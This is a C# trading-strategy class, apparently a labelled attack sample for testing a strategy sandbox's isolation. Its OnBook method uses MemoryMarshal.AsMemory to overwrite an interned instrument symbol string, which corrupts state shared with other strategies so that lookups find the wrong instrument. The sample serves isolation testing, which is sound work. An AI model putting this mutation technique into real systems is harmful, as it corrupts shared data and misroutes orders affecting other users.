// Abuses: strings are immutable only by convention: AsMemory of MemoryMarshal makes one writable.
// Harm: changes the symbol of a shared instrument (and literals are interned over the process): lookups find the wrong instrument.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Runtime.InteropServices;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.MemorymarshalStringAttack;

public sealed class MemorymarshalStringStrategy : Strategy
{
    public override void OnBook(in BookEvent bookEvent)
    {
        string symbol = Context.Instrument(bookEvent.Instrument).Symbol;
        Memory<char> letters = MemoryMarshal.AsMemory(symbol.AsMemory());
        letters.Span[0] = 'Z';
        Act(letters.Length);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
